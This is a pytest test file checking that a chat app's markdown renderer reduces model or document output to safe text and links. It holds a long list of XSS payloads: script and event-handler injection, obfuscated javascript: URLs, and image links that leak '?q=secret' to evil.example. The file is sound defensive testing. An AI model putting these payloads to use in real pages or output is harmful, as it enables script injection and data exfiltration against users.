"""Whatever a model or a document says, the page gets text, plain links and nothing else."""

import re
from html.parser import HTMLParser

import pytest

from aiapp.markdown import Stream, render

TAGS = {
    *("a", "br", "code", "del", "em", "s", "span", "strong", "button"),
    *("blockquote", "div", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "ul"),
    *("table", "tbody", "td", "th", "thead", "tr"),
}
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel", "class", "data-n"},
    "button": {"type", "data-action"},
    "div": {"class", "tabindex"},
    "pre": {"tabindex"},
    "ol": {"start"},
    "li": {"class"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
}
HREF = re.compile(r"(https?://[^/]|mailto:[^/]|#source-[1-9]$)", re.IGNORECASE)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=q autofocus onfocus=alert(1)>",
    "<style>@import url(https://evil.example)</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.b/c)",
    "[x](//evil.example/x)",
    "[x](/accounts/logout/)",
    "[x](\\\\evil.example)",
    "[x](https:///evil)",
    "[x](?q=1)",
    "[x](#source-1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]: javascript:alert(1)\n\n[x][r]",
    "[r]: <java&#115;cript:alert(1)> 't'\n\n[x][r]",
    "[x](https://a.b \"' onmouseover=alert(1) x='\")",
    "[x](https://a.b'\"onmouseover=alert(1))",
    '[x](https://a.b "\\"><img src=x onerror=alert(1)>")',
    'https://a.b/"onmouseover="alert(1)',
    "https://a.b/<script>alert(1)</script>",
    "javascript://a.b/%0aalert(1)",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[r]: https://evil.example/?q=secret\n\n![x][r]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![<img src=x onerror=alert(1)>](https://evil.example)",
    "![](//evil.example/p.png)",
    "[![a](https://evil.example/p.png)](https://a.b)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```<script>\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "$<img src=x onerror=alert(1)>$ $$<script>alert(1)</script>$$",
    "\\(</span><script>alert(1)</script>\\)",
    "$$\n</span><script>alert(1)</script>\n$$",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    '|a|\n|:"onclick=alert(1)-:|\n|b|',
    "[1](javascript:alert(1)) [<img src=x>] [2, javascript:alert(1)]",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    '<button data-action="copy-code" formaction=javascript:alert(1)>x</button>',
    '<div class="code" data-action="delete-all">x</div>',
    "\ud800<script>\udfffalert(1)</script>\0",
    "- [ ] <script>alert(1)</script>\n- [x](javascript:x) y",
    "# <script>alert(1)</script>\n\n> <iframe>\n\n<x y=z>\n===",
]


class Reader(HTMLParser):
    """Collects what a browser would find, and balances the tags."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.depth = []

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, attributes))
        if tag not in {"br", "hr"}:
            self.depth.append(tag)

    def handle_endtag(self, tag):
        assert self.depth.pop() == tag

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.depth == []
    for tag, attributes in reader.found:
        assert tag in TAGS, html
        for name, value in attributes:
            assert name in ATTRIBUTES.get(tag, ()), html
            if name == "href":
                assert HREF.match(value), html
            if name == "data-action":
                assert value == "copy-code"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_text(payload):
    for text in (payload, f"before {payload} after", f"- {payload}\n\n> {payload}", f"**{payload}"):
        assert_harmless(render(text, 2))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_at_every_moment_of_a_stream(payload):
    stream = Stream(2)
    for character in f"{payload} x\n\n{payload}":
        stream.feed(character)
        for block in stream.take():
            assert_harmless(block.html)


def test_no_image_is_ever_loaded():
    html = render(
        "![a *b* `c`](https://evil.example/?q=1) [![in](https://x.y/p)](https://ok.example)"
    )
    assert "<img" not in html
    assert '<a href="https://evil.example/?q=1"' in html
    assert ">a b c</a>" in html
    assert html.count("<a ") == 2


def test_links_tell_the_other_side_nothing():
    html = render("https://a.b [x](http://c.d) <mailto:e@f.g>")
    assert html.count('target="_blank" rel="noopener noreferrer nofollow"') == 3


def test_a_text_cannot_turn_its_citations_into_links():
    html = render("[1]: https://evil.example\n\nAs said [1].", sources=1)
    assert "evil" not in html
    assert 'href="#source-1"' in html


def test_a_citation_counts_only_up_to_the_sources():
    html = render("[0] [1] [3] [01] [999999999999]", sources=2)
    assert re.findall(r'data-n="(\d+)"', html) == ["1", "1"]
